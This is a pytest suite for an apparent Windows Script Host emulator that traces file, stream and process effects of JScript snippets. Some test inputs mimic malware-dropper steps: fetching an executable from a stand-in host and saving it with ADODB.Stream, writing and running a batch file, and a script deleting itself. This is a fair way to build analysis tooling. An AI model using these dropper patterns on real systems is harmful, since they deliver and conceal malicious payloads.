"""Files, streams and records under Windows Script Host."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from .wsh_runs import Host, hosting

FSO = "var fso = new ActiveXObject('Scripting.FileSystemObject');"
STREAM = "var s = new ActiveXObject('ADODB.Stream'); s.Open();"


@pytest.fixture(scope="module")
def wsh(outlives_tests: None) -> Iterator[Host]:
    with hosting() as host:
        yield host


def test_what_was_written_can_be_read_line_by_line(wsh: Host) -> None:
    source = """
      var f = fso.CreateTextFile('a.txt'); f.WriteLine('one'); f.Write('two');
      f.WriteBlankLines(1); f.Close();
      f = fso.OpenTextFile('a.txt'); [f.ReadLine(), f.Line, f.AtEndOfStream, f.Read(2),
      f.ReadAll(), f.AtEndOfStream]
    """
    assert wsh.run(FSO + source) == ["one", 2, False, "tw", "o\r\n", True]


def test_a_written_file_is_an_effect_with_its_whole_content(wsh: Host) -> None:
    source = FSO + (
        "var f = fso.CreateTextFile('C:\\\\a.js'); for (var i = 0; i < 9; "
        "i++) f.Write(i); f.Close()"
    )
    trace = wsh.traced(source)
    assert [one.operation for one in trace.effects] == ["write", "write"]
    assert trace.effects[1].target == "C:\\a.js"
    assert [one.content for one in trace.artifacts] == [b"012345678"]


def test_what_was_not_closed_is_written_before_a_program_runs(wsh: Host) -> None:
    source = """
      var f = fso.CreateTextFile('C:\\\\a.bat'); f.Write('del x');
      new ActiveXObject('WScript.Shell').Run('C:\\\\a.bat');
    """
    effects = wsh.traced(FSO + source).effects
    assert [one.kind for one in effects][:3] == ["file", "file", "process"]


@pytest.mark.parametrize("end", ["", "WScript.Quit(1)", "throw new Error('x')"])
def test_what_was_not_closed_is_written_at_the_end(wsh: Host, end: str) -> None:
    source = FSO + "var f = fso.CreateTextFile('C:\\\\a.bat'); f.Write('del x');" + end
    trace = wsh.result(source).trace
    assert trace is not None
    assert [one.content for one in trace.artifacts] == [b"del x"]


def test_a_file_can_be_appended_to(wsh: Host) -> None:
    source = """
      for (var i = 0; i < 2; i++) { var f = fso.OpenTextFile('a.txt', 8, true); f.Write(i);
      f.Close() }
      fso.OpenTextFile('a.txt').ReadAll()
    """
    assert wsh.run(FSO + source) == "01"


def test_unicode_is_written_with_its_mark_and_read_without(wsh: Host) -> None:
    source = """
      var f = fso.CreateTextFile('a.txt', true, true); f.Write('\\u0416'); f.Close();
      [fso.GetFile('a.txt').Size, fso.OpenTextFile('a.txt', 1, false, -1).ReadAll()]
    """
    assert wsh.run(FSO + source) == [4, "Ж"]


@pytest.mark.parametrize(
    ("expression", "number"),
    [
        ("fso.OpenTextFile('C:\\\\none.txt')", 53),
        ("fso.GetFile('C:\\\\none.txt')", 53),
        ("fso.GetFolder('C:\\\\none')", 76),
        ("fso.DeleteFile('C:\\\\*.none')", 53),
        ("fso.CreateTextFile('C:\\\\Windows\\\\win.ini', false)", 58),
        ("fso.CreateFolder('C:\\\\Windows')", 58),
        ("fso.GetDrive('Q:')", 68),
        ("fso.CreateTextFile('b.txt').ReadAll()", 54),
        ("fso.CreateTextFile('b.txt').Read(1)", 54),
    ],
)
def test_what_can_not_be_done_has_its_number(wsh: Host, expression: str, number: int) -> None:
    assert wsh.caught(FSO + expression)[0] & 0xFFFF == number


def test_reading_past_the_end_is_error_62(wsh: Host) -> None:
    source = FSO + "var f = fso.OpenTextFile('C:\\\\Windows\\\\win.ini'); f.ReadAll(); f.ReadLine()"
    assert wsh.caught(source)[0] & 0xFFFF == 62


def test_names_are_taken_apart(wsh: Host) -> None:
    source = """
      [fso.GetFileName('C:\\\\a\\\\b.tar.gz'), fso.GetBaseName('b.tar.gz'),
      fso.GetExtensionName('b.tar.gz'), fso.GetParentFolderName('C:\\\\a\\\\b'),
      fso.BuildPath('C:\\\\a', 'b'), fso.GetDriveName('C:\\\\a')]
    """
    assert wsh.run(FSO + source) == ["b.tar.gz", "b.tar", "gz", "C:\\a", "C:\\a\\b", "C:"]


def test_folders_list_what_is_in_them(wsh: Host) -> None:
    source = """
      var names = [];
      for (var e = new Enumerator(fso.GetFolder('C:\\\\Windows').Files); !e.atEnd();
      e.moveNext()) names.push(e.item().Name);
      [names.length > 5, /notepad/.test(names.join()), fso.GetFolder('C:\\\\').SubFolders.Count > 3]
    """
    assert wsh.run(FSO + source) == [True, True, True]


def test_files_are_copied_moved_and_deleted(wsh: Host) -> None:
    source = """
      fso.CreateTextFile('a.txt').Close(); fso.CopyFile('a.txt',
      'C:\\\\Users\\\\Public\\\\'); fso.MoveFile('a.txt', 'b.txt');
      fso.GetFile('b.txt').Delete();
      [fso.FileExists('a.txt'), fso.FileExists('b.txt'),
      fso.FileExists('C:\\\\Users\\\\Public\\\\a.txt')]
    """
    assert wsh.run(FSO + source) == [False, False, True]


def test_a_script_can_delete_itself(wsh: Host) -> None:
    (effect,) = wsh.effects(FSO + "fso.DeleteFile(WScript.ScriptFullName)", "file")
    assert (effect.operation, effect.target[-3:]) == ("remove", ".js")


def test_a_script_can_read_itself(wsh: Host) -> None:
    source = FSO + "fso.OpenTextFile(WScript.ScriptFullName).ReadAll()"
    assert wsh.run(source) == source


def test_special_folders_are_the_users_own(wsh: Host) -> None:
    source = FSO + "[0, 1, 2].join() + fso.GetSpecialFolder(2)"
    assert wsh.run(source).endswith("\\AppData\\Local\\Temp")


def test_a_stream_takes_bytes_and_saves_them(wsh: Host) -> None:
    source = """
      var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://a.example/a.exe',
      false); x.send();
      s.Type = 1; s.Write(x.responseBody); s.Position = 0; s.SaveToFile('C:\\\\a.exe', 2); s.Size
    """
    trace = wsh.traced(STREAM + source)
    (saved,) = (one for one in trace.artifacts if one.kind == "file")
    assert saved.content is not None
    assert saved.content.startswith(b"MZ")


def test_a_stream_converts_between_text_and_bytes(wsh: Host) -> None:
    source = """
      s.Type = 2; s.Charset = 'iso-8859-1'; s.WriteText('a\\xff'); s.Position = 0; s.Type = 1;
      new VBArray(s.Read()).toArray()
    """
    assert wsh.run(STREAM + source) == [97, 255]


def test_a_stream_reads_lines_and_characters(wsh: Host) -> None:
    source = (
        "s.Charset = 'utf-8'; s.WriteText('\\u00e9\\r\\nabc'); s.Position = 0; "
        "[s.ReadText(-2), s.ReadText(1), s.ReadText(), s.EOS]"
    )
    assert wsh.run(STREAM + source) == ["é", "a", "bc", True]


def test_a_stream_is_copied_into_another(wsh: Host) -> None:
    source = """
      s.Charset = 'us-ascii'; s.WriteText('abc'); s.Position = 1;
      var t = new ActiveXObject('ADODB.Stream'); t.Open(); t.Charset = 'us-ascii';
      s.CopyTo(t, 1); t.Position = 0; t.ReadText()
    """
    assert wsh.run(STREAM + source) == "b"


@pytest.mark.parametrize(
    "source",
    [
        "s.Close(); s.Size",
        "s.WriteText('abc'); s.Type = 1",
        "s.Type = 1; s.Write('abc')",
        "s.Type = 7",
    ],
)
def test_what_a_stream_is_not_ready_for_is_an_error(wsh: Host, source: str) -> None:
    assert wsh.caught(STREAM + source)[0] & 0xFFFF in (3001, 3704, 3219)


def test_records_convert_bytes_to_text(wsh: Host) -> None:
    source = """
      var n = new ActiveXObject('Microsoft.XMLDOM').createElement('x');
      n.dataType = 'bin.base64'; n.text = 'aGVs\\nbG8=';
      var r = new ActiveXObject('ADODB.Recordset'); r.Fields.Append('b', 201, 5); r.Open();
      r.AddNew();
      r('b').AppendChunk(n.nodeTypedValue); r.Update(); [r('b').Value,
      r.Fields('b').GetChunk(2), r.Fields(0).Name]
    """
    assert wsh.run(source) == ["hello", "he", "b"]
